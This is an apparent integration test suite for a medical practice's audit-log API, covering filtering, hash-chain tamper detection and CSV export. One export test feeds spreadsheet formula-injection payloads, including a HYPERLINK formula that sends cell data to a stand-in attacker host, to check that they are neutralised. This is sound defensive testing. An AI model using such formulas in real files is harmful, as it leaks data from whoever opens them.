import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import request from 'supertest';
import { AUDIT_ACTIONS } from '@resetdesk/contracts';
import { csvCell } from '../../src/audit/audit-events.csv';
import { AuditChainHead, AuditEvent } from '../../src/audit/audit-event.entity';
import { AuditChainKeys } from '../../src/audit/audit-chain-keys';
import { EXPORT_BATCH_SIZE } from '../../src/audit/audit-events.service';
import { SYSTEM_ACTOR } from '../../src/audit/audit-events';
import { UnitOfWork } from '../../src/database/unit-of-work';
import { assertApiError } from '../support/api-assertions';
import { patientIdsWith } from '../support/fixtures';
import { MAPLE_ADMIN, MAPLE_DESK, RIVERSIDE_ADMIN, StaffClient } from '../support/staff-client';
import { MAPLE_GROVE_ID, RIVERSIDE_ID } from '../support/staff-fixtures';
import { startTestApp, TestApp } from '../support/test-app';
import { mysqlSkip } from '../support/test-env';
import { csvRecords, oneCharacterChanged, Row, sql, tamper, todayIn } from './admin-support';

const CSV_COLUMNS = [
  'id',
  'createdAt',
  'action',
  'actorType',
  'actorId',
  'actorName',
  'patientId',
  'patientName',
  'patientMrn',
  'reason',
  'identityVerification',
  'note',
  'previousStatus',
  'retiredUsername',
  'invitationId',
  'sentTo',
  'chartChecksumBefore',
  'chartChecksumAfter',
  'ip',
  'userAgent',
  'details',
  'hash',
  'prevHash',
];
const VIEW_KEYS = [
  'action',
  'actorId',
  'actorName',
  'actorType',
  'createdAt',
  'details',
  'hash',
  'id',
  'ip',
  'patientId',
  'patientMrn',
  'patientName',
  'practiceId',
  'prevHash',
  'reason',
  'userAgent',
];
const MAPLE_ZONE = 'America/Los_Angeles';

describe('audit log API', { skip: mysqlSkip }, () => {
  let t: TestApp;
  let admin: StaffClient;
  let desk: StaffClient;
  let deskId: string;
  let patients: string[];

  const list = (client: StaffClient, filter: object, extra: Record<string, string> = {}) =>
    client.get('/api/audit-events').query({ filter: JSON.stringify(filter), range: '[0,499]', ...extra });
  const mapleEvents = (where = '1 = 1', params: unknown[] = []) =>
    sql(t, `SELECT * FROM audit_events WHERE practiceId = ? AND ${where} ORDER BY seq`, [MAPLE_GROVE_ID, ...params]);

  before(async () => {
    t = await startTestApp({ seedPatients: 12, label: 'auditlog' });
    patients = await patientIdsWith(t.dataSource, MAPLE_GROVE_ID, 'active');
    // A realistic little history: sign-ins and sign-outs, chart views by two people.
    admin = await StaffClient.signIn(t.server, MAPLE_ADMIN);
    for (let round = 0; round < 2; round++) {
      const session = await StaffClient.signIn(t.server, MAPLE_DESK);
      await session.get(`/api/patients/${patients[round]}/chart`).expect(200);
      await session.post('/api/auth/logout').expect(204);
    }
    desk = await StaffClient.signIn(t.server, MAPLE_DESK);
    await desk.get(`/api/patients/${patients[2]}/chart`).expect(200);
    await admin.get(`/api/patients/${patients[0]}/chart`).expect(200);
    await request(t.server).post('/api/auth/login').send({ email: MAPLE_DESK, password: 'not-the-password-123' }).expect(401);
    const riverside = await StaffClient.signIn(t.server, RIVERSIDE_ADMIN);
    const riversidePatient = (await patientIdsWith(t.dataSource, RIVERSIDE_ID, 'active'))[0];
    await riverside.get(`/api/patients/${riversidePatient}/chart`).expect(200);
    [{ id: deskId }] = await sql(t, 'SELECT id FROM staff_users WHERE email = ?', [MAPLE_DESK]);
  });
  after(async () => t?.close());

  describe('GET /api/audit-events', () => {
    it('answers every event of the practice, newest first, as AuditEventView with a Content-Range', async () => {
      const rows = await mapleEvents();
      const response = await list(admin, {});
      assert.equal(response.status, 200);
      assert.equal(response.headers['content-range'], `audit-events 0-${rows.length - 1}/${rows.length}`);
      assert.deepEqual(
        response.body.map((e: Row) => e.id),
        rows.map((r) => r.id).reverse(),
      );
      const newest = response.body[0];
      assert.deepEqual(Object.keys(newest).sort(), VIEW_KEYS);
      const stored = rows[rows.length - 1]!;
      assert.equal(newest.hash, stored.hash);
      assert.equal(newest.prevHash, stored.prevHash);
      assert.equal(newest.createdAt, new Date(stored.createdAt).toISOString());
      assert.deepEqual(newest.details, JSON.parse(stored.details));
    });

    it('pages with range and sorts by seq, createdAt or action', async () => {
      const rows = await mapleEvents();
      const page = await admin.get('/api/audit-events').query({ range: '[2,4]', sort: '["seq","ASC"]' });
      assert.equal(page.headers['content-range'], `audit-events 2-4/${rows.length}`);
      assert.deepEqual(
        page.body.map((e: Row) => e.id),
        rows.slice(2, 5).map((r) => r.id),
      );
      const oldest = await admin.get('/api/audit-events').query({ range: '[0,0]', sort: '["createdAt","ASC"]' });
      assert.equal(oldest.body[0].id, rows[0]!.id);
      const byAction = await list(admin, {}, { sort: '["action","ASC"]' });
      const actions = byAction.body.map((e: Row) => e.action);
      assert.deepEqual(actions, [...actions].sort());
    });

    it('filters by one action or a list of actions', async () => {
      const views = await mapleEvents('action = ?', ['patient.viewed']);
      assert.equal(views.length, 4);
      const one = await list(admin, { action: 'patient.viewed' });
      assert.deepEqual(one.body.map((e: Row) => e.id).sort(), views.map((r) => r.id).sort());

      const inOut = await mapleEvents("action IN ('staff.login', 'staff.logout')");
      const several = await list(admin, { action: ['staff.login', 'staff.logout'] });
      assert.deepEqual(several.body.map((e: Row) => e.id).sort(), inOut.map((r) => r.id).sort());
      assert.ok(several.body.some((e: Row) => e.action === 'staff.logout'));

      const none = await list(admin, { action: [] });
      assert.equal(none.body.length, (await mapleEvents()).length, 'an empty list means any action');
    });

    it('filters by actor and by patient', async () => {
      const byDesk = await list(admin, { actorId: deskId });
      const deskRows = await mapleEvents('actorId = ?', [deskId]);
      assert.ok(deskRows.length >= 7);
      assert.deepEqual(byDesk.body.map((e: Row) => e.id).sort(), deskRows.map((r) => r.id).sort());

      const byPatient = await list(admin, { patientId: patients[0] });
      assert.equal(byPatient.body.length, 2, 'desk and admin both opened the first chart');
      assert.ok(byPatient.body.every((e: Row) => e.patientId === patients[0] && e.action === 'patient.viewed'));

      const combined = await list(admin, { patientId: patients[0], actorId: deskId });
      assert.equal(combined.body.length, 1);
    });

    it('filters by id list, as react-admin getMany asks', async () => {
      const rows = await mapleEvents();
      const wanted = [rows[0]!.id, rows[3]!.id];
      const response = await list(admin, { id: wanted });
      assert.deepEqual(response.body.map((e: Row) => e.id).sort(), [...wanted].sort());
    });

    it('filters by from and to date-times, both inclusive', async () => {
      const rows = await mapleEvents();
      const middle = rows[Math.floor(rows.length / 2)]!;
      const at = new Date(middle.createdAt).toISOString();
      const from = await list(admin, { from: at });
      assert.deepEqual(
        from.body.map((e: Row) => e.id).sort(),
        rows
          .filter((r) => r.createdAt >= middle.createdAt)
          .map((r) => r.id)
          .sort(),
      );
      const to = await list(admin, { to: at });
      assert.deepEqual(
        to.body.map((e: Row) => e.id).sort(),
        rows
          .filter((r) => r.createdAt <= middle.createdAt)
          .map((r) => r.id)
          .sort(),
      );
      const exactly = await list(admin, { from: at, to: at, id: [middle.id] });
      assert.deepEqual(
        exactly.body.map((e: Row) => e.id),
        [middle.id],
      );
    });

    it("reads a plain to date as that whole day on the practice's clock, across a DST change", async () => {
      const rows = await mapleEvents();
      const [a, b, c] = rows.slice(1, 4) as [Row, Row, Row];
      const saved = [a, b, c].map((r) => ({ id: r.id, createdAt: r.createdAt }));
      try {
        // Los Angeles: 15 Jan is PST (UTC-8); 1 Nov 2026 ends daylight time, a 25-hour day.
        await tamper(t, 'UPDATE audit_events SET createdAt = ? WHERE id = ?', ['2026-01-15 07:59:59.999', a.id]);
        await tamper(t, 'UPDATE audit_events SET createdAt = ? WHERE id = ?', ['2026-01-15 08:00:00.000', b.id]);
        await tamper(t, 'UPDATE audit_events SET createdAt = ? WHERE id = ?', ['2026-11-02 07:30:00.000', c.id]);
        const ids = [a.id, b.id, c.id];
        const found = async (filter: object) => (await list(admin, { id: ids, ...filter })).body.map((e: Row) => e.id).sort();

        assert.deepEqual(await found({ to: '2026-01-14' }), [a.id], 'the last millisecond of 14 Jan in Los Angeles is included');
        assert.deepEqual(await found({ from: '2026-01-15', to: '2026-01-15' }), [b.id], 'midnight starts 15 Jan');
        assert.deepEqual(await found({ from: '2026-11-01', to: '2026-11-01' }), [c.id], '23:30 PST on 1 Nov is still 1 Nov');
        assert.deepEqual(await found({ to: '2026-01-15T08:00:00Z' }), [a.id, b.id].sort(), 'a to date-time includes that instant');
        assert.deepEqual(await found({ from: '2026-01-15T00:00:00', to: '2026-01-15T00:00:00' }), [b.id], 'a date-time without zone is practice time');
        assert.deepEqual(await found({ from: '2026-01-15T09:00:00+01:00', to: '2026-01-15T08:00:00.000Z' }), [b.id]);
      } finally {
        for (const row of saved) await tamper(t, 'UPDATE audit_events SET createdAt = ? WHERE id = ?', [row.createdAt, row.id]);
      }
    });

    it("finds today's events with from and to set to today's date, as the console's date inputs send them", async () => {
      const today = todayIn(MAPLE_ZONE);
      const all = await mapleEvents();
      const response = await list(admin, { from: today, to: today });
      assert.equal(response.body.length, all.length);
      const tomorrow = new Date(Date.parse(`${today}T12:00:00Z`) + 86_400_000).toISOString().slice(0, 10);
      assert.deepEqual((await list(admin, { from: tomorrow })).body, []);
    });

    it('answers 400 for malformed filters, unknown actions, bad dates and unsortable fields', async () => {
      for (const query of [
        { filter: '{"action":' },
        { filter: JSON.stringify({ action: 'portal.exploded' }) },
        { filter: JSON.stringify({ action: ['staff.login', 7] }) },
        { filter: JSON.stringify({ from: 'yesterday' }) },
        { filter: JSON.stringify({ to: '2026-02-30' }) },
        { filter: JSON.stringify({ actorId: { $ne: null } }) },
        { filter: JSON.stringify({ hash: 'x' }) },
        { sort: '["hash","ASC"]' },
        { range: '[0,10000]' },
      ]) {
        const response = await admin.get('/api/audit-events').query(query);
        assertApiError(response, 400);
      }
      const unknownAction = await list(admin, { action: 'portal.exploded' });
      assert.match(unknownAction.body.message, /Unknown action "portal\.exploded"/);
    });
  });

  describe('GET /api/audit-events/:id', () => {
    it('answers one event as AuditEventView, and 404 for an unknown id', async () => {
      const [row] = await mapleEvents("action = 'patient.viewed'");
      const response = await admin.get(`/api/audit-events/${row!.id}`);
      assert.equal(response.status, 200);
      assert.deepEqual(Object.keys(response.body).sort(), VIEW_KEYS);
      assert.equal(response.body.action, 'patient.viewed');
      assert.deepEqual(response.body.details, { view: 'chart' });
      assertApiError(await admin.get('/api/audit-events/not-an-id'), 404, 'That audit event was not found.');
    });
  });

  describe('GET /api/audit-events/verify', () => {
    const verify = async () => {
      const response = await admin.get('/api/audit-events/verify');
      assert.equal(response.status, 200);
      return response.body as { valid: boolean; checked: number; firstBrokenId: string | null };
    };

    it('reports an untouched chain valid, counting every event of the practice', async () => {
      const rows = await mapleEvents();
      assert.deepEqual(await verify(), { valid: true, checked: rows.length, firstBrokenId: null });
    });

    for (const column of ['details', 'actorName', 'action', 'ip', 'prevHash', 'hash'] as const) {
      it(`finds a one-character edit of ${column} in a stored row, and the chain is whole again once restored`, async () => {
        const rows = await mapleEvents(`${column} IS NOT NULL`);
        const victim = rows[Math.floor(rows.length / 2)]!;
        const all = await mapleEvents();
        const checkedBefore = all.findIndex((r) => r.id === victim.id);
        try {
          await tamper(t, `UPDATE audit_events SET \`${column}\` = ? WHERE id = ?`, [oneCharacterChanged(victim[column]), victim.id]);
          assert.deepEqual(await verify(), { valid: false, checked: checkedBefore, firstBrokenId: victim.id });
        } finally {
          await tamper(t, `UPDATE audit_events SET \`${column}\` = ? WHERE id = ?`, [victim[column], victim.id]);
        }
        assert.equal((await verify()).valid, true);
      });
    }

    it('finds a createdAt moved by one millisecond', async () => {
      const all = await mapleEvents();
      const victim = all[3]!;
      try {
        await tamper(t, 'UPDATE audit_events SET createdAt = DATE_ADD(createdAt, INTERVAL 1000 MICROSECOND) WHERE id = ?', [victim.id]);
        assert.deepEqual(await verify(), { valid: false, checked: 3, firstBrokenId: victim.id });
      } finally {
        await tamper(t, 'UPDATE audit_events SET createdAt = ? WHERE id = ?', [victim.createdAt, victim.id]);
      }
      assert.equal((await verify()).valid, true);
    });

    it('finds a row deleted from the middle, naming the row after the gap', async () => {
      const all = await mapleEvents();
      const at = Math.floor(all.length / 2);
      const victim = all[at]!;
      const columns = Object.keys(victim);
      try {
        await tamper(t, 'DELETE FROM audit_events WHERE id = ?', [victim.id]);
        assert.deepEqual(await verify(), { valid: false, checked: at, firstBrokenId: all[at + 1]!.id });
      } finally {
        await tamper(
          t,
          `INSERT INTO audit_events (${columns.map((c) => `\`${c}\``).join(', ')}) VALUES (${columns.map(() => '?').join(', ')})`,
          columns.map((c) => victim[c]),
        );
      }
      assert.equal((await verify()).valid, true);
    });

    it('finds a row deleted from the end of the chain', async () => {
      const all = await mapleEvents();
      const last = all[all.length - 1]!;
      const columns = Object.keys(last);
      try {
        await tamper(t, 'DELETE FROM audit_events WHERE id = ?', [last.id]);
        const result = await verify();
        assert.equal(result.valid, false);
        assert.equal(result.checked, all.length - 1);
      } finally {
        await tamper(
          t,
          `INSERT INTO audit_events (${columns.map((c) => `\`${c}\``).join(', ')}) VALUES (${columns.map(() => '?').join(', ')})`,
          columns.map((c) => last[c]),
        );
      }
      assert.equal((await verify()).valid, true);
    });
  });

  describe('GET /api/audit-events/export', () => {
    it('downloads every event of the practice as CSV that parses back to the stored rows', async () => {
      const response = await admin.get('/api/audit-events/export');
      assert.equal(response.status, 200);
      assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal(response.headers['content-disposition'], `attachment; filename="audit-log-${todayIn(MAPLE_ZONE)}.csv"`);
      const { header, records } = csvRecords(response.text);
      assert.deepEqual(header, CSV_COLUMNS);

      const rows = await mapleEvents();
      assert.deepEqual(
        records.map((r) => r.id),
        rows.map((r) => r.id),
        'one row per event, oldest first',
      );
      for (const [index, record] of records.entries()) {
        const row = rows[index]!;
        assert.equal(record.createdAt, new Date(row.createdAt).toISOString());
        assert.equal(record.action, row.action);
        assert.equal(record.actorType, row.actorType);
        assert.equal(record.actorId, row.actorId ?? '');
        assert.equal(record.actorName, row.actorName ?? '');
        assert.equal(record.patientId, row.patientId ?? '');
        assert.equal(record.ip, row.ip ?? '');
        assert.equal(record.userAgent, row.userAgent ?? '');
        assert.deepEqual(JSON.parse(record.details!), JSON.parse(row.details));
        assert.equal(record.hash, row.hash);
        assert.equal(record.prevHash, row.prevHash ?? '');
      }
    });

    it('is itself audited: who exported, when, and with which filter', async () => {
      const filter = { action: ['portal.reset'] };
      const response = await admin.get('/api/audit-events/export').query({ filter: JSON.stringify(filter) });
      assert.equal(response.status, 200);
      const [exported] = await sql(t, `SELECT * FROM audit_events WHERE practiceId = ? AND action = 'audit.exported' ORDER BY seq DESC LIMIT 1`, [
        MAPLE_GROVE_ID,
      ]);
      assert.ok(exported, 'an audit.exported event was appended');
      assert.equal(exported!.actorType, 'staff');
      assert.equal(exported!.actorName, 'Alicia Moreno');
      assert.deepEqual(JSON.parse(exported!.details), { filter });
      assert.equal((await admin.get('/api/audit-events/verify')).body.valid, true);
      assertApiError(await admin.get('/api/audit-events/export').query({ filter: '{"action":"nope"}' }), 400);
      const [{ n }] = await sql(t, `SELECT COUNT(*) AS n FROM audit_events WHERE action = 'audit.exported' AND details LIKE '%nope%'`, []);
      assert.equal(Number(n), 0, 'a refused export is not recorded as one');
    });

    it('applies the same filter as the list', async () => {
      const filter = { action: ['patient.viewed'], actorId: deskId };
      const response = await admin.get('/api/audit-events/export').query({ filter: JSON.stringify(filter) });
      const { records } = csvRecords(response.text);
      const listed = await list(admin, filter);
      assert.equal(records.length, 3);
      assert.deepEqual(records.map((r) => r.id).sort(), listed.body.map((e: Row) => e.id).sort());
      assertApiError(await admin.get('/api/audit-events/export').query({ filter: '{"action":"nope"}' }), 400);
    });

    it('quotes commas, quotes and line breaks, and neutralises cells a spreadsheet would run as a formula', async () => {
      const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', 'Mozilla/5.0 "quoted", with commas'];
      for (const userAgent of hostile) {
        await admin.get(`/api/patients/${patients[1]}/chart`).set('User-Agent', userAgent).expect(200);
      }
      const response = await admin.get('/api/audit-events/export').query({ filter: JSON.stringify({ action: 'patient.viewed', patientId: patients[1] }) });
      const agents = csvRecords(response.text).records.map((r) => r.userAgent);
      for (const userAgent of hostile.slice(0, 4)) {
        assert.ok(agents.includes(`'${userAgent}`), `${JSON.stringify(userAgent)} is exported as text: ${JSON.stringify(agents)}`);
        assert.ok(!agents.includes(userAgent));
      }
      assert.ok(agents.includes('Mozilla/5.0 "quoted", with commas'));
      assert.ok(agents.every((agent) => !/^[=+\-@\t\r]/.test(agent!)));
    });

    it('neutralises cells starting with a tab or carriage return too (HTTP strips them from headers, so checked directly)', () => {
      assert.equal(csvCell('\tcmd'), "'\tcmd");
      assert.equal(csvCell('\r=1+1'), `"'\r=1+1"`);
      assert.equal(csvCell('plain'), 'plain');
      assert.equal(csvCell('a "b", c'), '"a ""b"", c"');
      assert.equal(csvCell(null), '');
    });

    it('pages through more than one batch of events, in chain order, without losing or repeating one', async () => {
      // A long, valid chain written in bulk: the same rows AuditLogService would append one by
      // one (hashed with its own chain key), without 3,000 round trips.
      const [head] = await sql(t, 'SELECT * FROM audit_chain_heads WHERE practiceId = ?', [RIVERSIDE_ID]);
      let seq = Number(head!.lastSeq);
      let prevHash: string | null = head!.lastHash;
      const bulk: AuditEvent[] = [];
      const start = Date.now();
      for (let i = 0; i < 1100; i++) {
        seq++;
        const event: Omit<AuditEvent, 'hash'> = {
          id: randomUUID(),
          practiceId: RIVERSIDE_ID,
          seq,
          action: 'email.retried',
          actorType: 'system',
          actorId: null,
          actorName: SYSTEM_ACTOR.name,
          patientId: null,
          reason: null,
          details: JSON.stringify({ outboxMessageId: `bulk-${i}` }),
          ip: null,
          userAgent: null,
          createdAt: new Date(start + i),
          prevHash,
        };
        const row = { ...event, hash: t.app.get(AuditChainKeys).hashFor(event, Number(head!.keyedFromSeq)) };
        bulk.push(row);
        prevHash = row.hash;
      }
      await t.app.get(UnitOfWork).run(async (manager) => {
        for (let k = 0; k < bulk.length; k += 250) await manager.insert(AuditEvent, bulk.slice(k, k + 250));
        await manager.update(AuditChainHead, { practiceId: RIVERSIDE_ID }, { lastSeq: seq, lastHash: prevHash });
      });
      const riverside = await StaffClient.signIn(t.server, RIVERSIDE_ADMIN);
      const response = await riverside.get('/api/audit-events/export');
      const { records } = csvRecords(response.text);
      const rows = await sql(t, 'SELECT id FROM audit_events WHERE practiceId = ? ORDER BY seq', [RIVERSIDE_ID]);
      assert.ok(rows.length > EXPORT_BATCH_SIZE);
      assert.deepEqual(
        records.map((r) => r.id),
        rows.map((r) => r.id),
      );

      const verified = await riverside.get('/api/audit-events/verify');
      assert.deepEqual(verified.body, { valid: true, checked: rows.length, firstBrokenId: null });
    });
  });

  it('every action the product writes can be filtered on', async () => {
    for (const action of AUDIT_ACTIONS) {
      const response = await list(admin, { action });
      assert.equal(response.status, 200, action);
    }
  });
});
